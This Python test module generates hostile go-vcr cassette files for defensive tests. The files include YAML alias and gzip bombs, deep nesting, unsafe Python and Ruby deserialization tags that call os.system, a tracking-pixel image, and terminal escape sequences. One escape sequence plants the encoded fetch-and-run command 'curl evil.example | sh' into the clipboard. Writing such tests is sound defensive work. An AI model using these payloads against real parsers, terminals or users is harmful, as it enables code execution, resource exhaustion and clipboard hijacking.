"""Generators of hostile cassette content, so no hostile file is ever stored in the repository.

Each function returns the bytes of one file; tests write them under `tmp_path`. Sizes are
parameters so a test can pick the smallest input that still exercises the defence it checks.
"""

from __future__ import annotations

import json
import os
import random
from pathlib import Path

from tests.builders import chat_request, chat_response, govcr

# A reply text the good neighbour cassette carries, so tests can check it still decodes.
GOOD_REPLY = "The neighbour cassette is still fine."


def good_cassette(reply: str = GOOD_REPLY) -> bytes:
    """An ordinary one-interaction OpenAI chat cassette (go-vcr v2 YAML)."""
    ask = chat_request([{"role": "user", "content": "Are you there?"}])
    return govcr([(ask, chat_response(reply))]).encode()


def alias_bomb(levels: int = 12, width: int = 10) -> bytes:
    """'Billion laughs': each anchor lists the previous one `width` times (width**levels nodes)."""
    lines = ['a0: &a0 ["lol"]']
    for i in range(1, levels + 1):
        refs = ", ".join(f"*a{i - 1}" for _ in range(width))
        lines.append(f"a{i}: &a{i} [{refs}]")
    lines.append(f"interactions: *a{levels}")
    return ("\n".join(lines) + "\n").encode()


def deep_yaml_flow(depth: int) -> bytes:
    return b"interactions: " + b"[" * depth + b"]" * depth + b"\n"


def deep_yaml_block(depth: int) -> bytes:
    """Nested block mappings, two spaces of indentation per level."""
    lines = ["interactions:"]
    lines += [f"{'  ' * (i + 1)}k{i}:" for i in range(depth)]
    lines.append(f"{'  ' * (depth + 1)}leaf")
    return ("\n".join(lines) + "\n").encode()


def deep_json(depth: int) -> bytes:
    return b'{"interactions": ' + b"[" * depth + b"]" * depth + b"}"


def huge_body_cassette(body_bytes: int) -> bytes:
    """A well-formed cassette whose response body alone is `body_bytes` long."""
    ask = chat_request([{"role": "user", "content": "Say a lot."}])
    return govcr([(ask, chat_response("x" * body_bytes))]).encode()


def huge_string_line(n: int) -> bytes:
    """One YAML scalar of `n` characters with no line break."""
    return b"interactions: '" + b"A" * n + b"'\n"


def invalid_utf8() -> bytes:
    """A go-vcr-looking file with stray continuation bytes and an overlong encoding inside."""
    return b"version: 2\ninteractions:\n- request:\n    body: \x80\xbf\xc0\xaf\xff\xfe\n"


def binary_noise(size: int, seed: int) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(size))


def python_object_tags(marker: Path) -> bytes:
    """YAML tags that an unsafe loader would turn into `os.system(...)` calls creating `marker`."""
    command = f"touch {marker}"
    return (
        f"version: 2\n"
        f"interactions:\n"
        f"- !!python/object/apply:os.system [{json.dumps(command)}]\n"
        f"- !!python/object/new:subprocess.check_output [[sh, -c, {json.dumps(command)}]]\n"
        f"- !!python/name:os.system\n"
        f"- request: !!python/object/apply:subprocess.call [[sh, -c, {json.dumps(command)}]]\n"
    ).encode()


def ruby_object_tags(marker: Path) -> bytes:
    """Ruby VCR-looking tags, including the classic deserialization gadget shapes, as text."""
    return (
        "---\n"
        "http_interactions:\n"
        "- request: !ruby/object:Gem::Installer\n"
        "    i: x\n"
        "  response: !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
        f"    ? !ruby/object:OpenStruct {{table: {{cmd: 'touch {marker}'}}}}\n"
        "    : !ruby/sym system\n"
        "recorded_with: VCR 6.2.0\n"
    ).encode()


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: max(1, int(len(data) * keep))]


def hidden_nesting(groups: int, width: int = 50) -> bytes:
    """Deep flow nesting whose brackets look balanced: quoted `]` cancel the real `[` in a count.

    Before the fix, ~150 KB of this overflowed libyaml's C stack and killed the process.
    """
    group = b"[" * width + b'"' + b"]" * width + b'", '
    return b"interactions: " + group * groups + b"]" * (width * groups) + b"\n"


# --- one bad file among good ones (issue: hostile recordings and neighbours) ------------------


def out_of_range_numbers() -> dict[str, bytes]:
    """Cassettes whose integers do not fit SQLite's 64 bits: a status, token counts, a duration."""
    ask = chat_request([{"role": "user", "content": "Count."}])
    huge = 2**64 + 7
    return {
        "status-2-63.yaml": govcr([(ask, chat_response("ok"))], status=2**63).encode(),
        "tokens-2-64.yaml": govcr(
            [(ask, chat_response("ok", prompt_tokens=huge, completion_tokens=huge))]
        ).encode(),
        "tokens-negative.yaml": govcr(
            [(ask, chat_response("ok", prompt_tokens=-(2**70), completion_tokens=1))]
        ).encode(),
        "duration-huge.yaml": govcr([(ask, chat_response("ok"))])
        .replace("duration: 1.25s", f"duration: {10**30}s")
        .encode(),
    }


NON_UTF8_NAMES = (b"caf\xe9.yaml", b"caf\xff.yaml", b"\xc0\xaf-overlong.yaml")


def write_non_utf8_names(folder: Path) -> list[Path]:
    """Cassette files whose names are not valid UTF-8 (two of them look alike once replaced)."""
    written = []
    for raw in NON_UTF8_NAMES:
        path = Path(os.fsdecode(os.fsencode(folder) + b"/" + raw))
        path.write_bytes(good_cassette("a name that is not UTF-8"))
        written.append(path)
    return written


def write_deep_tree(folder: Path, depth: int) -> Path:
    """A cassette `depth` folders down (`d/d/d/.../deep.yaml`), made without recursion."""
    current = folder
    for _ in range(depth):
        current = current / "d"
        os.mkdir(current)
    leaf = current / "deep.yaml"
    leaf.write_bytes(good_cassette("from the bottom of a deep tree"))
    return leaf


def remove_tree(folder: Path) -> None:
    """`rm -rf` without recursion (shutil.rmtree recurses per level and fails on a deep tree)."""
    stack = [str(folder)]
    while stack:
        top = stack[-1]
        subfolders = []
        with os.scandir(top) as entries:
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    subfolders.append(entry.path)
                else:
                    os.unlink(entry.path)
        if subfolders:
            stack.extend(subfolders)
        else:
            os.rmdir(top)
            stack.pop()


TRACKER = "https://tracker.example/pixel.gif"


def remote_image_cassette(tracker: str = TRACKER) -> bytes:
    """A remote image in recorded Markdown and as a user's image part: neither may load on view."""
    content = [
        {"type": "text", "text": "What is in this picture?"},
        {"type": "image_url", "image_url": {"url": f"{tracker}?part=1"}},
    ]
    ask = chat_request([{"role": "user", "content": content}])
    answer = f"Here: ![pixel]({tracker}?md=1) and <img src='{tracker}?html=1'>"
    return govcr([(ask, chat_response(answer))]).encode()


# Sequences a terminal acts on: OSC 52 (write the clipboard), clear screen, window title, an
# OSC 8 hyperlink, a one-character C1 CSI, a carriage return drawing a fake line, bidi override.
TERMINAL_ATTACKS = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m",
    "harmless\rcassettes/ok.yaml: no problems found",
    "\u202eevil\u202c",
    "\x08\x7f",
)


def terminal_attack_cassette(marker: str = "") -> bytes:
    """Every attack in the answer, the question, the model name, a tool name and the URL."""
    attacks = "".join(TERMINAL_ATTACKS) + marker
    ask = chat_request([{"role": "user", "content": f"question {attacks}"}], model=f"gpt{attacks}")
    answer = chat_response(
        f"answer {attacks}",
        tool_calls=[{"id": "call_1", "name": f"tool{attacks}", "arguments": {"q": attacks}}],
        model=f"gpt{attacks}",
    )
    return govcr(
        [(ask, answer)], url=f"https://api.openai.com/v1/chat/completions?x={attacks}", status=500
    ).encode()


def unparseable_url_cassette() -> bytes:
    """Three interactions; the middle one's URL cannot be parsed (`http://[` opens an IPv6
    literal that never closes)."""
    ask = chat_request([{"role": "user", "content": "Which one breaks?"}])
    text = govcr([(ask, chat_response(f"answer {i}")) for i in range(3)])
    first = text.index("https://api.openai.com")
    second = text.index("https://api.openai.com", first + 1)
    return (
        text[:second] + "http://[broken" + text[second + len("https://api.openai.com") :]
    ).encode()


# File names that are ordinary on POSIX but awkward in URLs and lists.
AWKWARD_NAMES = ("back\\slash.yaml", "new\nline.yaml", "tab\there.yaml", "pct%2E%2E.yaml")


def gzip_bomb_cassette(bombs: int = 10, expands_to: int = 120 << 20) -> bytes:
    """`bombs` interactions whose gzip response bodies each inflate to `expands_to` bytes of JSON
    text (~160 KB of base64 each for 120 MiB): a 1.6 MB file that would need GBs to decode."""
    import base64
    import zlib

    chunk = b'{"a": "' + b"x" * (1 << 20) + b'"}\n'
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [compressor.compress(chunk) for _ in range(expands_to // len(chunk))]
    body = b"".join(parts) + compressor.flush()
    encoded = base64.b64encode(body).decode()
    lines = ["version: 2", "interactions:"]
    for i in range(bombs):
        lines += [
            f"- id: {i}",
            "  request:",
            "    url: https://api.openai.com/v1/chat/completions",
            "    method: POST",
            "    body: '{}'",
            "  response:",
            "    code: 200",
            "    headers:",
            "      Content-Encoding: [gzip]",
            "      Content-Type: [application/json]",
            f"    body: !!binary {encoded}",
        ]
    return ("\n".join(lines) + "\n").encode()


def alias_body_cassette(reuses: int = 1500, body_bytes: int = 1 << 20) -> bytes:
    """One `body_bytes` answer anchored once and aliased by `reuses` interactions."""
    answer = chat_response("y" * body_bytes)
    ask = chat_request([{"role": "user", "content": "again"}])
    lines = ["version: 2", "interactions:"]
    for i in range(reuses):
        body = f"&answer {json.dumps(answer)}" if i == 0 else "*answer"
        lines += [
            f"- id: {i}",
            "  request:",
            "    url: https://api.openai.com/v1/chat/completions",
            "    method: POST",
            f"    body: {json.dumps(ask)}",
            "  response:",
            "    code: 200",
            f"    body: {body}",
        ]
    return ("\n".join(lines) + "\n").encode()


# --- long single values (render work per message and per page) --------------------------------


def long_answer_cassette(chars: int, line: int = 0) -> bytes:
    """One answer of `chars` characters: one line when `line` is 0, else lines of `line` chars."""
    text = ("y" * (line - 1) + "\n") * (chars // line) if line else "z" * chars
    ask = chat_request([{"role": "user", "content": "Say a lot."}])
    return json_govcr([(ask, chat_response(text))])


def base64_tool_result_cassette(raw_bytes: int) -> bytes:
    """A tool result carrying `raw_bytes` of base64 (a screenshot a tool returned)."""
    import base64

    blob = base64.b64encode(bytes(range(256)) * (raw_bytes // 256)).decode()
    messages = [
        {"role": "user", "content": "Look at the screen."},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": "shot", "arguments": "{}"}}
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": blob},
    ]
    return json_govcr([(chat_request(messages), chat_response("I see it."))])


def wide_table_cassette(chars: int, columns: int = 400) -> bytes:
    """An answer that is one Markdown table about `chars` characters wide and long."""
    head = "|" + "|".join(f"c{i}" for i in range(columns)) + "|\n"
    rule = "|" + "|".join("-" for _ in range(columns)) + "|\n"
    row = "|" + "|".join(f"v{i}" for i in range(columns)) + "|\n"
    text = head + rule + row * max(1, (chars - len(head)) // len(row))
    ask = chat_request([{"role": "user", "content": "A table, please."}])
    return json_govcr([(ask, chat_response(text))])


def many_interactions_cassette(n: int) -> bytes:
    """`n` small independent calls in one cassette."""
    ask = chat_request([{"role": "user", "content": "ping"}])
    return json_govcr([(ask, chat_response(f"pong {i}")) for i in range(n)])


def json_govcr(exchanges: list[tuple[str, str]]) -> bytes:
    """go-vcr v2 as JSON-compatible YAML (flow style): fast to write and read at any size."""
    interactions = [
        {
            "id": i,
            "request": {
                "body": req,
                "headers": {"Content-Type": ["application/json"]},
                "url": "https://api.openai.com/v1/chat/completions",
                "method": "POST",
            },
            "response": {
                "body": resp,
                "headers": {"Content-Type": ["application/json"]},
                "status": "200 OK",
                "code": 200,
                "duration": "1s",
            },
        }
        for i, (req, resp) in enumerate(exchanges)
    ]
    return json.dumps({"version": 2, "interactions": interactions}).encode()
